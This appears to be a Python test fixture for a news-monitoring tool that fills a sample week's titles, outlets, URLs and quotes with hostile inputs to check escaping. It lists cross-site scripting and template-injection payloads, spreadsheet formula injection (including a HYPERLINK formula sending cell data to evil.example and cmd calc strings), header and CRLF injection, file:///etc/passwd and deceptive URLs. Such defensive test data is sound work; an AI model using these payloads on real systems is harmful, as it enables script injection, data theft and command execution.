# ruff: noqa: E501
"""A week whose every title, name, address and quote is an attack."""

from __future__ import annotations

from dataclasses import replace

from support.weeks import count_themes, make_week
from treatywatch.news.week_input import ModelUse, NewOutlet, WeekInput

HOSTILE = (
    "<script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    '" onmouseover="window.pwned=1" x="',
    "' autofocus onfocus='window.pwned=1",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1>open me</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><button>log in</button></form>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "{{ 7*7 }}{% for x in range(9) %}z{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(articles)s %s %d %n %%",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\u202egnirts desrever\u202c and on",
    "\u2067\u2067\u2067\u2067 unclosed isolates",
    "\u2069\u2069\u2069 closed too often",
    "\u202a\u202b\u202d left open",
    "pаypal.example with a Cyrillic а",
    "ＳＣＲＩＰＴ in full width",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d algo"
    * 20,
    "w" * 10_000,
    "ﷺ" * 3_000,
    "null\x00byte and \x1b[31mterminal\x07 codes",
    "lone \ud800 surrogate \udfff",
    "zero\u200bwidth\ufeff and \u00adsoft \u2060joined",
    "line one\r\nBcc: victim@evil.example\r\n\r\nbody",
    "tab\tand\u2028separators\u2029here\x85next",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[open me](javascript:window.pwned=1) ![x](https://evil.example/p.png)",
    "`code` **bold** # head | cell | <https://evil.example> www.evil.example\n\n# forged",
    "\u0627\u0644\u0639\u0646\u0648\u0627\u0646 <b>\u0639\u0631\u0628\u064a</b> & English \u0627\u0644\u0646\u0635",
    "",
)
HOSTILE_URLS = (
    "javascript:window.pwned=1",
    " JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/no-scheme",
    "https://user:secret@evil.example/",
    "https://bank.example@evil.example/",
    'https://evil.example/" onclick="window.pwned=1',
    "https://evil.example/')window.pwned=1('",
    "https://evil.example/a\r\nSet-Cookie: x=1",
    "https://evil.example\\@bank.example/",
    "https://xn--/",
    "https:///nohost",
    "https://evil.example:99999/",
    "https://[::1",
    "https://evil.example/" + "a" * 5_000,
    "ftp://evil.example/file",
    "\x00https://evil.example/",
)


def make_hostile_week() -> WeekInput:
    """Make a week whose every title, name, address and quote is an attack."""
    week = make_week()
    texts, urls = list(HOSTILE), list(HOSTILE_URLS)
    articles = [
        replace(
            article,
            title=texts[number % len(texts)],
            outlet=texts[(number * 7 + 3) % len(texts)],
            url=urls[number % len(urls)],
        )
        for number, article in enumerate(week.articles)
    ]
    passages = [
        replace(
            passage,
            text=f"{texts[number % len(texts)]} said five words or more",
            before=texts[(number + 1) % len(texts)],
            after=texts[(number + 2) % len(texts)],
            themes=(*passage.themes, "<b>theme</b>"),
        )
        for number, passage in enumerate(week.passages)
    ]
    drifts = [
        replace(
            week.drifts[0],
            article_id=f"d{number}",
            title=text,
            title_before=texts[number - 1],
            outlet=text,
            url=urls[number % len(urls)],
        )
        for number, text in enumerate(texts)
    ]
    feeds = [
        replace(week.feeds_down[0], feed_id=text, name=text, error_class=text) for text in texts
    ]
    themes = count_themes(articles, passages, week.week)
    models = (ModelUse(texts[0], 1), ModelUse(texts[34], 1))
    return replace(
        week,
        articles=tuple(articles),
        passages=tuple(passages),
        drifts=tuple(drifts),
        feeds_down=tuple(feeds),
        themes=(*week.themes, *themes),
        new_outlets=tuple(NewOutlet(a.outlet, a.language, a.article_id) for a in articles[:5]),
        models=models,
        omissions=replace(week.omissions, failed_pages=dict.fromkeys(texts, 1)),
    )
